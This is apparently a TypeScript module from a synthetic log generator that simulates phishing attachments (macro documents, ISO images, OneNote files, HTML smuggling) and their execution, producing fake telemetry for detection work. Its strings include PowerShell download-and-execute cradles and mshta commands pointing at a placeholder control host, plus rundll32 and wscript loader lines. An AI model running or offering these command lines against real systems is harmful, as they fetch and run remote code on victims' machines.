// Steps 1 and 2: the mail arrives, and the attachment is opened.

import { traffic } from "../emit/fortigate.ts";
import { mail } from "../emit/mail.ts";
import {
  connects,
  desktop,
  type Process,
  profile,
  resolves,
  running,
  sysmonTime,
  userName,
  writesFile,
} from "../emit/process.ts";
import { PROGRAMS } from "../emit/programs.ts";
import { windows } from "../emit/security.ts";
import { WINDOWS_EVENTS } from "../emit/windows-event.ts";
import { SECOND, type World } from "../world.ts";
import { atVictim, run, type Scene, type Step, type Variant } from "./scene.ts";

const SUBJECTS = [
  "Offene Forderung",
  "Bewerbung auf Ihre Ausschreibung",
  "Mahnung zur Rechnung",
  "Korrigierte Unterlagen",
  "Akteneinsicht",
];

function delivery(names: readonly string[], technique: string, title: string): Variant {
  return {
    technique,
    title,
    ...atVictim,
    run: (world, scene, time) => {
      const { random } = world;
      scene.attachment = random.pick(names);
      mail(world, time, {
        direction: "Incoming",
        from: `${random.pick(["buchhaltung", "k.weber", "bewerbung", "rechnung"])}@${random.pick(["handwerk-mitte", "kanzlei-am-deich-de", "lieferdienst24"])}.test`,
        to: [scene.victim.mail],
        subject: `${random.pick(SUBJECTS)} ${random.int(1000, 99_999)}`,
        address: scene.dropAddress,
        bytes: random.int(40_000, 1_900_000),
        attachments: [scene.attachment],
        spamScore: random.int(2, 5),
      });
      return time + 5 * SECOND;
    },
  };
}

/** The mail; its attachment decides how it is opened, so both are drawn by the same index. */
export const PHISHING: Step = {
  id: "01-phishing",
  tactic: "initial-access",
  knownToRules: true,
  variants: [
    delivery(
      ["Rechnung_4471.xlsm", "Mahnung.docm", "Bewerbung_Unterlagen.doc"],
      "T1566.001",
      "Mail mit Makro-Dokument zugestellt",
    ),
    delivery(
      ["Unterlagen.iso", "Scan_2217.img", "Akte.iso"],
      "T1566.001",
      "Mail mit Datenträger-Abbild zugestellt",
    ),
    delivery(["Notiz.one", "Rechnung.one"], "T1566.001", "Mail mit OneNote-Datei zugestellt"),
    delivery(
      ["Dokument.html", "Rechnung.pdf.html", "Voicemail.htm"],
      "T1566.001",
      "Mail mit HTML-Anhang zugestellt",
    ),
  ],
};

function attachmentFolder(world: World, scene: Scene): string {
  return `${profile(scene.victim.account)}\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\${world.random.hex(8).toUpperCase()}`;
}

function macro(world: World, scene: Scene, time: number): number {
  const { random } = world;
  const { host, account } = scene.victim;
  const outlook = running(world, host, PROGRAMS.outlook, account);
  const word = !scene.attachment.endsWith(".xlsm");
  const file = `${attachmentFolder(world, scene)}\\${scene.attachment}`;
  writesFile(world, time, outlook, file);
  const office = run(
    world,
    time + 2 * SECOND,
    outlook,
    word ? PROGRAMS.word : PROGRAMS.excel,
    `/n "${file}"`,
  );
  const at = time + random.int(15, 80) * SECOND;
  const script = `${profile(account)}\\AppData\\Local\\Temp\\${random.hex(6)}.${random.pick(["vbs", "js"])}`;
  scene.implant = random.pick([
    () => {
      const shell = run(
        world,
        at,
        office,
        PROGRAMS.cmd,
        `/c powershell -w hidden -nop -c "iex((new-object net.webclient).downloadstring('http://${scene.controlHost}/${random.hex(4)}'))"`,
      );
      return run(
        world,
        at + 400,
        shell,
        PROGRAMS.powershell,
        `-w hidden -nop -c "iex((new-object net.webclient).downloadstring('http://${scene.controlHost}/${random.hex(4)}'))"`,
      );
    },
    () => {
      writesFile(world, at, office, script);
      return run(world, at + 700, office, PROGRAMS.wscript, `//B //NoLogo "${script}"`);
    },
    () =>
      run(
        world,
        at,
        office,
        PROGRAMS.rundll32,
        `${profile(account)}\\AppData\\Local\\Temp\\${random.hex(5)}.dll,DllRegisterServer`,
      ),
    () =>
      run(world, at, office, PROGRAMS.mshta, `http://${scene.controlHost}/${random.hex(5)}.hta`),
  ])();
  return at + 2 * SECOND;
}

function discImage(world: World, scene: Scene, time: number): number {
  const { random } = world;
  const { host, account } = scene.victim;
  const outlook = running(world, host, PROGRAMS.outlook, account);
  writesFile(world, time, outlook, `${profile(account)}\\Downloads\\${scene.attachment}`);
  const shell = desktop(world, host, account);
  const drive = random.pick(["E", "F", "H"]);
  const at = time + random.int(10, 60) * SECOND;
  writesFile(
    world,
    at - SECOND,
    shell,
    `${profile(account)}\\AppData\\Roaming\\Microsoft\\Windows\\Recent\\${scene.attachment}.lnk`,
  );
  scene.implant = random.pick([
    () => run(world, at, shell, PROGRAMS.mshta, `${drive}:\\data\\${random.hex(4)}.hta`),
    () =>
      run(
        world,
        at,
        shell,
        PROGRAMS.rundll32,
        `${drive}:\\${random.hex(4)}.dll,${random.pick(["#1", "Start", "DllMain"])}`,
      ),
    () => {
      const console = run(
        world,
        at,
        shell,
        PROGRAMS.cmd,
        `/c start ${drive}:\\Akte.pdf & ${drive}:\\sys\\run.bat`,
      );
      return run(
        world,
        at + 600,
        console,
        PROGRAMS.rundll32,
        `${drive}:\\sys\\${random.hex(4)}.dat,Init`,
      );
    },
  ])();
  return at + 3 * SECOND;
}

function oneNote(world: World, scene: Scene, time: number): number {
  const { random } = world;
  const { host, account } = scene.victim;
  const outlook = running(world, host, PROGRAMS.outlook, account);
  const folder = attachmentFolder(world, scene);
  writesFile(world, time, outlook, `${folder}\\${scene.attachment}`);
  const notebook = run(
    world,
    time + 2 * SECOND,
    outlook,
    PROGRAMS.onenote,
    `"${folder}\\${scene.attachment}"`,
  );
  const at = time + random.int(10, 90) * SECOND;
  const extracted = `${profile(account)}\\AppData\\Local\\Temp\\OneNote\\16.0\\Exported\\{${random.hex(8).toUpperCase()}}\\NT\\0\\Oeffnen`;
  const [program, line, file] = random.pick([
    [
      PROGRAMS.mshta,
      `"${extracted}.hta" {1E460BD7-F1C3-4B2E-88BF-4E770A288AF5}`,
      `${extracted}.hta`,
    ],
    [PROGRAMS.wscript, `"${extracted}.wsf"`, `${extracted}.wsf`],
    [PROGRAMS.cmd, `/c ""${extracted}.cmd" "`, `${extracted}.cmd`],
  ] as const);
  writesFile(world, at, notebook, file);
  scene.implant = run(world, at + 900, notebook, program, line);
  return at + 2 * SECOND;
}

function smuggling(world: World, scene: Scene, time: number): number {
  const { random } = world;
  const { host, account } = scene.victim;
  const outlook = running(world, host, PROGRAMS.outlook, account);
  const page = `${attachmentFolder(world, scene)}\\${scene.attachment}`;
  writesFile(world, time, outlook, page);
  const browser = run(
    world,
    time + 2 * SECOND,
    outlook,
    PROGRAMS.edge,
    `--single-argument ${page}`,
  );
  const at = time + random.int(8, 40) * SECOND;
  const archive = `${profile(account)}\\Downloads\\Dokument_${random.int(100, 999)}.zip`;
  writesFile(world, at, browser, archive);
  windows(world, at + 50, host, WINDOWS_EVENTS.streamCreated, {
    RuleName: "-",
    UtcTime: sysmonTime(at + 50),
    ProcessGuid: browser.guid,
    ProcessId: String(browser.pid),
    Image: browser.image,
    TargetFilename: `${archive}:Zone.Identifier`,
    CreationUtcTime: sysmonTime(at),
    Hash: "Unknown",
    Contents: `[ZoneTransfer]  ZoneId=3  HostUrl=about:internet`,
    User: userName(account),
  });
  const script = `${profile(account)}\\AppData\\Local\\Temp\\Temp1_Dokument.zip\\Dokument_${random.int(100, 999)}.js`;
  const shell = desktop(world, host, account);
  writesFile(world, at + 20 * SECOND, shell, script);
  const started: Process = run(world, at + 21 * SECOND, shell, PROGRAMS.wscript, `"${script}" `);
  resolves(world, at + 22 * SECOND, started, scene.controlHost, scene.controlAddress);
  connects(world, at + 22 * SECOND + 80, started, {
    ip: scene.controlAddress,
    name: scene.controlHost,
    port: 443,
  });
  traffic(world, at + 25 * SECOND, {
    from: host.ip,
    to: scene.controlAddress,
    port: 443,
    sent: 1800,
    received: random.int(80_000, 700_000),
  });
  scene.implant = started;
  return at + 26 * SECOND;
}

export const OPENING: Step = {
  id: "02-opening",
  tactic: "execution",
  knownToRules: true,
  variants: [
    {
      technique: "T1204.002",
      title: "Makro eines Office-Dokuments startet ein Skript",
      ...atVictim,
      run: macro,
    },
    {
      technique: "T1204.002",
      title: "Verknüpfung auf einem Datenträger-Abbild geöffnet",
      ...atVictim,
      run: discImage,
    },
    {
      technique: "T1204.002",
      title: "Eingebettetes Skript in OneNote geöffnet",
      ...atVictim,
      run: oneNote,
    },
    {
      technique: "T1027.006",
      title: "HTML-Anhang legt ein Skript ab, das geöffnet wird",
      ...atVictim,
      run: smuggling,
    },
  ],
};
